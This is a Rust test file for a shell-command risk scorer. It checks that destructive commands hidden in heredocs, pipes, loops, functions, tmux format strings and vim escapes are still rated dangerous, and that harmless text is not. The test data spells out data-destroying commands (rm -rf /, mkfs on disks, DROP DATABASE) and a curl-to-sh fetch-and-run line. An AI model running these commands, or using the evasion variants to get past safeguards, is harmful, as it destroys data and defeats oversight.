//! What a block hands down to the commands in it is read as if it were their argument; and text for people
//! is no code.
#![allow(clippy::unwrap_used)]

use expacti_engine::{Context, Effect, Level, MatchKind, Outcome, Rule, RuleSet, assess};

fn score(line: &str) -> u8 {
    assess(line.as_bytes(), &Context::default()).score
}

fn level(line: &str) -> Level {
    assess(line.as_bytes(), &Context::default()).level
}

#[test]
fn input_of_a_block_is_read_by_what_is_in_it() {
    let direct = score("bash -c 'rm -rf /srv'");
    assert!(direct >= 57, "{direct}");
    for line in [
        "{ bash; } <<E\nrm -rf /srv\nE",
        "( bash ) <<E\nrm -rf /srv\nE",
        "{ bash; } <<< 'rm -rf /srv'",
        "echo 'rm -rf /srv' | { bash; }",
        "echo 'rm -rf /srv' | ( sudo bash )",
        "echo 'rm -rf /srv' | { { sh; }; }",
        "if bash; then :; fi <<< 'rm -rf /srv'",
        "while bash; do break; done <<< 'rm -rf /srv'",
        "until ! bash; do break; done <<E\nrm -rf /srv\nE",
        "for i in 1; do bash; done <<< 'rm -rf /srv'",
        "case a in a) bash;; esac <<< 'rm -rf /srv'",
        "{ read x; bash; } <<E\nx\nrm -rf /srv\nE",
        "{ bash <&0; } <<< 'rm -rf /srv'",
        "bash -c bash <<< 'rm -rf /srv'",
        "f() { bash; }; f <<< 'rm -rf /srv'",
        "f() { sudo sh; }; ls; echo 'rm -rf /srv' | f",
        "f() { while read l; do $l; done; }; f <<< 'rm -rf /srv'",
        "sudo sh -c 'bash' <<E\nrm -rf /srv\nE",
        "ssh h bash <<E\nrm -rf /srv\nE",
        "{ xargs -I% sh -c %; } <<< 'rm -rf /srv'",
        "{ xargs rm -rf; } <<< /srv",
        "while read l; do $l; done <<E\nrm -rf /srv\nE",
        "while read -r l; do eval \"$l\"; done <<E\nls\nrm -rf /srv\nE",
        "while read -r l; do bash -c \"$l\"; done <<< 'rm -rf /srv'",
        "echo 'rm -rf /srv' | while IFS= read -r l; do $l; done",
        "{ read; $REPLY; } <<< 'rm -rf /srv'",
        "while read a b; do $a $b; done <<< 'rm -rf /srv'",
    ] {
        assert!(score(line) >= direct, "{} < {direct}: {line}", score(line));
    }
    for line in [
        "{ bash; } <<E\nrm -rf /\nE",
        "( python3 ) <<E\nimport shutil; shutil.rmtree('/')\nE",
        "{ python3 -; } <<E\nimport os; os.system('rm -rf /')\nE",
        "{ psql shop; } <<< 'DROP DATABASE shop'",
        "echo 'rm -rf /' | { bash; }",
        "while read l; do $l; done <<< 'mkfs.ext4 /dev/sda1'",
        "while read d; do rm -rf $d; done <<< /",
        "while read d; do mkfs.ext4 \"/dev/$d\"; done <<< sda1",
        "if bash; then :; fi <<< 'rm -rf /'",
    ] {
        assert_eq!(level(line), Level::Critical, "{} {line}", score(line));
    }
    // What cannot be seen is not known to do nothing.
    for line in ["cat f | { bash; }", "{ bash; } < f", "curl -s http://x.example | ( sh )"] {
        assert!(level(line) >= Level::High, "{} {line}", score(line));
    }
}

#[test]
fn input_that_nothing_runs_is_data() {
    for line in [
        "{ cat; } <<E\nrm -rf /srv\nE",
        "while read l; do echo \"$l\"; done <<E\nrm -rf /srv\nE",
        "echo 'rm -rf /srv' | { grep rm; }",
        "( wc -l ) <<< 'rm -rf /srv'",
        "f() { cat; }; f <<< 'rm -rf /srv'",
        "cat hosts | while read h; do ping -c 1 \"$h\"; done",
        "{ python3 x.py; } <<< 'rm -rf /srv'",
        "{ bash -c 'cat'; } <<< 'rm -rf /srv'",
    ] {
        assert!(level(line) <= Level::Medium, "{} {line}", score(line));
    }
    assert_eq!(score("{ cat; } <<E\nrm -rf /\nE"), 0);
}

#[test]
fn rules_that_deny_see_what_a_block_hands_down() {
    let rule = Rule::new("r", MatchKind::Glob, "kubectl delete **".to_owned(), Effect::Deny);
    let rules = RuleSet::build(vec![rule]).unwrap();
    for line in [
        "{ bash; } <<< 'kubectl delete pod x'",
        "echo 'kubectl delete pod x' | { sh; }",
        "while read l; do $l; done <<< 'kubectl delete pod x'",
        "while read v; do kubectl $v pod x; done <<< delete",
        "bash -c sh <<< 'kubectl delete pod x'",
    ] {
        let verdict = rules.judge(line.as_bytes(), &Context::default());
        assert_eq!(verdict.verdict, Outcome::Deny, "{line}");
    }
}

#[test]
fn words_for_people_are_no_code() {
    for line in [
        "git commit -m '!fix'",
        "git commit -m \"!fix\"",
        "git commit -m '|fix: a pipe'",
        "git commit -m ':!important'",
        "gh pr create -t '!important' -b x",
        "git tag -a v1 -m '!release'",
        "git stash push -m '!wip'",
    ] {
        assert!(level(line) == Level::Low, "{} {line}", score(line));
    }
    // A terminal of its own makes no command line of a command.
    let terminal = Context { pty: true, shell: Some("bash".to_owned()), ..Context::default() };
    let assessment = assess(b"git commit -m \"!fix\"", &terminal);
    assert!(assessment.level == Level::Low && !assessment.uninspectable, "{assessment:?}");
    let typed = Context { in_shell: true, ..terminal.clone() };
    assert!(assess(b"git commit -m \"!fix\"", &typed).uninspectable);
    let zsh = Context { shell: Some("/bin/zsh".to_owned()), ..typed.clone() };
    assert!(assess(b"ls !rm", &zsh).uninspectable);
    let unknown = Context { shell: None, ..typed.clone() };
    assert!(assess(b"ls !rm", &unknown).uninspectable);
    let dash = Context { shell: Some("/bin/dash".to_owned()), ..typed };
    assert!(!assess(b"ls !rm", &dash).uninspectable);
    for line in ["pexec '!sh'", "vim -c ':!sh' f", "vim -c '!rm -rf /srv' f", "tool '|/opt/x'"] {
        assert!(score(line) >= 35, "{} {line}", score(line));
    }
}

#[test]
fn what_starts_or_reads_code_is_code() {
    let id = score("sh -c id");
    for line in [
        "tmux ls -F '#(id)'",
        "tmux display-message -p '#(id)'",
        "tmux set -g status-right '#(id)'",
        "tmux list-panes -a -F '#{pane_id} #(id) x'",
        "script -q /dev/null",
        "script",
        "cowsay -f ./x.cow hi",
        "cowsay -f /tmp/x hi",
        "cowthink -f /tmp/x hi",
    ] {
        assert!(score(line) >= id.max(35), "{} {line}", score(line));
    }
    assert_eq!(level("tmux ls -F '#(rm -rf /)'"), Level::Critical);
    assert!(score("tmux ls -F '#(rm -rf /srv)'") >= score("sh -c 'rm -rf /srv'"));
    assert_eq!(level("echo 'rm -rf /' | script -q /dev/null"), Level::Critical);
    for line in [
        "tmux ls -F '#{session_name}'",
        "tmux ls",
        "script --version",
        "script -c 'ls -la' /tmp/log",
        "cowsay hi",
        "cowsay -f tux hi",
    ] {
        assert!(level(line) == Level::Low, "{} {line}", score(line));
    }
}
